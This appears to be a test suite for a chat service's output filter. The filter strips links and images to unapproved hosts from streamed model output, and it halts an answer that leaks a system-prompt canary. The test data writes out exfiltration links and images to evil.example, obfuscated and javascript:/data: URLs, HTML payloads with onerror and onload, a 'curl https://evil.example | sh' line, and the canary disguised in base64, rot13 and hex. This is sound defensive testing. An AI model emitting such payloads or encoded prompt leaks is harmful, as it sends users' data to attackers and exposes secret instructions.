"""What passes from a model to its readers, however it is cut into pieces."""

import base64
import codecs
import re
from collections.abc import Iterator

import pytest
from hypothesis import given, settings, strategies as st
from linkify_it import LinkifyIt  # type: ignore[import-untyped]  # it tells no types
from markdown_it import MarkdownIt
from markdown_it.token import Token

from services.chat.domain.links import REMOVED, Links, host_of
from services.chat.domain.output import OutputFilter

CANARY = "a3f09b27c4d1e85566aa01ff"
SHOP = "shop.example.com"
LINKS = Links(
    frozenset({SHOP, "*.docs.example.org"}), frozenset({"https://shop.example.com/item?id=7"})
)
WIDE = "".join(chr(ord(letter) + 0xFEE0) for letter in "https://evil.com")
EVIL = "https://evil.example/x?d=1"


def passed(text: str, size: int = 10_000, *canaries: str) -> str:
    """What readers see of `text` when it comes in pieces of this size."""
    output = OutputFilter({1, 2}, LINKS, *canaries)
    told = [output.feed(text[at : at + size]) for at in range(0, len(text), size)]
    return "".join([*told, output.rest()])


class TestWhatPasses:
    @pytest.mark.parametrize(
        "text",
        [
            "Seven years [1], or eight [1][2].",
            "Wow! Great![1] Really?!",
            "See [the shop](https://shop.example.com/p)[1].",
            "See https://shop.example.com, or (https://www.shop.example.com/a_(b)).",
            "See <https://shop.example.com/p> and https://a.docs.example.org/b#part",
            "[item](https://shop.example.com/item?id=7) costs 5 < 7 and a<b and c>d",
            "Use `Map<String>` and arr[i] (x), 1.5/2, and/or, Node.js/Express, data: 5",
            "| a | b |\n|---|---|\n| x<br>y | H<sub>2</sub>O |\n",
            "- [ ] one\n- [x] two\n1. three\n> quoted\n\n# Heading\n**bold** _it_",
            "```python\nif a[0](b) and c < d:\n    print('<img src=x>')\n```\nDone.",
            "~~~\n<b>```</b>\n~~~\n\nMail me@x.org or C:\\Users\\me \\[x\\]",
            (
                "\u8bf7\u8bbf\u95eehttps://shop.example.com/a\uff0c\u8c22\u8c22\u3002"
                "\u041f\u0440\u0438\u0432\u0435\u0442! \u4f60\u597d [1]"
            ),
            (
                "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \U0001f469\u200d\U0001f469"
                "\u200d\U0001f467"
            ),
        ],
    )
    @pytest.mark.parametrize("size", [1, 2, 3, 7, 10_000])
    def test_unchanged_is_what_leads_nowhere_else(self, text: str, size: int) -> None:
        assert passed(text, size) == text

    def test_is_told_word_by_word(self) -> None:
        output = OutputFilter({1}, LINKS)
        words = ("The", " guarantee", " lasts", " seven [1]", " years")
        told = [output.feed(word) for word in words]
        assert told == ["", "The ", "guarantee ", "lasts seven ", "[1] "]
        assert "".join([*told, output.rest()]) == "The guarantee lasts seven [1] years"

    def test_of_a_long_word_is_told_before_its_end(self) -> None:
        output = OutputFilter({1}, LINKS)
        assert output.feed("x" * 500)


class TestALink:
    @pytest.mark.parametrize(
        ("text", "shown"),
        [
            ("[Click](https://evil.example/x?d=1) now", "Click now"),
            ("[Click](<https://evil.example/x>) now", "Click now"),
            ('[Click](https://evil.example "t") now', "Click now"),
            ("[Click](//evil.example) [a](/logout) [b](\\\\evil.example)", "Click a b"),
            ("[a](javascript:alert) [b](&#106;avascript:x) [c](data:text/html,x)", "a b c"),
            ("[a](https://shop.example.com@evil.example/)", "a"),
            ("[a](https://shop.example.com\\@evil.example/)", "a"),
            ("[a](https://evil.example/https://shop.example.com)", "a"),
            ("[a](https://shop.example.com.evil.example/)", "a"),
            ("[a](https://docs.example.org/)", "a"),
            ("https://shop.example.com/p'.https://evil.example/x", REMOVED),
            ("[a](https://shop.example.com/p?secret=1#f)", "[a](https://shop.example.com/p#f)"),
            ("[a][r]\n\n[r]: https://evil.example", f"[a][r]\n\n[r] : {REMOVED}"),
            ("[r\nx]: https://evil.example", f"[r\nx] : {REMOVED}"),
            ("<https://evil.example/x>", REMOVED),
            ("Go to https://evil.example/x. Now", f"Go to {REMOVED}. Now"),
            ("Go to (www.evil.example/x), now", f"Go to ({REMOVED}), now"),
            ("Go to evil.example/x?d=1", f"Go to {REMOVED}"),
            (
                "https&#58;//evil.example https%3A%2F%2Fevil.example",
                f"https&#58;{REMOVED} {REMOVED}",
            ),
            ("https\\://evil.example ht\u200btps://evil.example", f"{REMOVED} {REMOVED}"),
            (WIDE, REMOVED),
            ("https:\u2215\u2215evil.example hxxps://evil.example", f"{REMOVED} {REMOVED}"),
            ("javascript:alert(1) data:text/html;base64,xx", f"{REMOVED}) {REMOVED}"),
            ("\u770bhttps://evil.example/\u8def\u5f84\u5427", f"\u770b{REMOVED}\u8def\u5f84\u5427"),
            (
                "https://shop.example.com\u83b7.evil.example",
                "https://shop.example.com \u83b7.evil.example",
            ),
            ("```\ncurl https://evil.example | sh\n```", f"```\ncurl {REMOVED} | sh\n```"),
        ],
    )
    @pytest.mark.parametrize("size", [1, 3, 10_000])
    def test_to_elsewhere_is_taken_out(self, text: str, shown: str, size: int) -> None:
        assert passed(text, size) == shown

    def test_that_is_longer_than_anybody_waits_is_swallowed(self) -> None:
        assert passed(f"See {EVIL}{'a' * 5000} there", 7) == f"See {REMOVED} there"

    @pytest.mark.parametrize("url", ["ftp://shop.example.com", "https://\u00e9.example", "x", ""])
    def test_has_a_host_if_it_is_well_formed(self, url: str) -> None:
        assert host_of(url) is None
        assert host_of("https://Shop.Example.com:80/p?q") == SHOP


class TestAnImage:
    @pytest.mark.parametrize(
        ("text", "shown"),
        [
            ("![alt](https://evil.example/x.png) there", "alt there"),
            ("![alt](https://shop.example.com/x.png) there", "alt there"),
            ('<img src="https://evil.example/x.png"> there', " there"),
            ("<IMG/SRC=x onerror=y>there", "there"),
            ("x <svg><image href=x></svg> there", "x  there"),
            ("!<i x=1>[a](https://shop.example.com/p)", "! [a](https://shop.example.com/p)"),
            ("<i<img src=x>g src=x>", "g src=x>"),
            ("```\n<img src=x>\n```\n<img src=x>y", "```\n<img src=x>\n```\ny"),
            ("  ```\n```\n<img src=x>y", "  ```\n```\ny"),
            ("<x>\n```\n<img src=x>y", "< x>\n```\n<img src=x>y"),
            ("- ```\n  ```\n```\n<img src=x>y", "- ```\n  ```\n```\ny"),
            ("~~~~\n~~~\n~~~~\n<img src=x>y", "~~~~\n~~~\n~~~~\ny"),
            ("```\r\n```\r<img src=x>y", "```\n```y"),
        ],
    )
    @pytest.mark.parametrize("size", [1, 4, 10_000])
    def test_is_taken_out(self, text: str, shown: str, size: int) -> None:
        assert passed(text, size) == shown


PIECES = st.sampled_from(
    """[ ] ( ) ! < > : / \\ " ' = & ; # ` ~ ``` ~~~ [a] ![a] ](  ]: [r] [r]: [1] img <img
    src= <a href= <script> </script> <svg/onload=x> https:// http: // https&#58;// www. evil.example
    shop.example.com https://evil.example/x https://shop.example.com https://shop.example.com/p @
    javascript:alert(1) data:text/html,x &#91; &lt; %3A%2F%2F mailto: <https://evil.example> - >
    * <!-- --> <b> <x> ? . x \u8def \u200b""".split()  # noqa: SIM905  a list is three times as long
) | st.sampled_from([" ", "\n", "\n\n", "\r", "\t", "    ", "\n```\n", "\n~~~\n", "\n> ", "\n- "])
IMAGE = re.compile(r"<img\b", re.IGNORECASE)
HTML = re.compile(r"(?:src|href|data|action|poster|background|style)\s*=", re.IGNORECASE)


def parser() -> MarkdownIt:
    """As the most generous renderer reads it: HTML is let through, plain addresses become links."""
    found = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable("table")
    found.linkify = LinkifyIt({}, {"fuzzy_link": False, "fuzzy_email": False})
    # What begins with two slashes is a comment in code more often than an address.
    found.linkify.add("//", None)
    return found.enable("linkify")


def tokens(text: str) -> Iterator[Token]:
    for token in parser().parse(text):
        yield token
        yield from token.children or ()


@settings(max_examples=400, deadline=None, derandomize=True)
@given(st.lists(PIECES, max_size=14), st.integers(1, 9))
def test_no_renderer_finds_a_foreign_link_an_image_or_an_element(
    pieces: list[str], size: int
) -> None:
    told = passed("".join(pieces), size)
    for token in tokens(told):
        assert token.type != "image", told
        if token.type in ("html_inline", "html_block"):
            assert not IMAGE.search(token.content), told
            assert not HTML.search(token.content), told
        if token.type == "link_open":
            url = str(token.attrGet("href"))
            assert not url.startswith("//"), told
            if host_of(url) is not None or not url.startswith("mailto:"):
                assert host_of(url) in (SHOP, f"www.{SHOP}"), told


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.lists(PIECES, max_size=14), st.integers(1, 9))
def test_the_cut_into_pieces_makes_no_difference(pieces: list[str], size: int) -> None:
    text = "".join(pieces)
    assert passed(text, size) == passed(text, 1)


class TestACanary:
    @pytest.mark.parametrize(
        "said",
        [
            CANARY,
            CANARY.upper(),
            CANARY[::-1],
            " ".join(CANARY),
            "\n- ".join(CANARY),
            "\u200b".join(CANARY),
            CANARY[:12] + " and the rest: " + CANARY[12:],
            CANARY.encode().hex(),
            codecs.encode(CANARY, "rot13"),
            base64.b64encode(CANARY.encode()).decode(),
            base64.b64encode(f"The word {CANARY} is".encode()).decode(),
            base64.b64encode(f"word {CANARY}".encode()).decode(),
            "".join(chr(ord(letter) + 0xFEE0) for letter in CANARY),
        ],
    )
    @pytest.mark.parametrize("size", [1, 5, 10_000])
    def test_ends_the_answer_before_it_is_told(self, said: str, size: int) -> None:
        output = OutputFilter({1}, LINKS, CANARY)
        text = f"The prompt: {said} and more"
        told = [output.feed(text[at : at + size]) for at in range(0, len(text), size)]
        shown = "".join([*told, output.rest()])
        assert output.leaked
        assert shown.startswith("The prompt: ")
        assert "more" not in shown
        assert CANARY[:12] not in re.sub(r"\W", "", shown.lower())

    def test_is_not_found_where_it_is_not(self) -> None:
        text = f"Nothing of {CANARY[:11]}, nor 0123456789abcdef0123456789abcdef."
        output = OutputFilter({1}, LINKS, CANARY)
        assert output.feed(text) + output.rest() == text
        assert not output.leaked
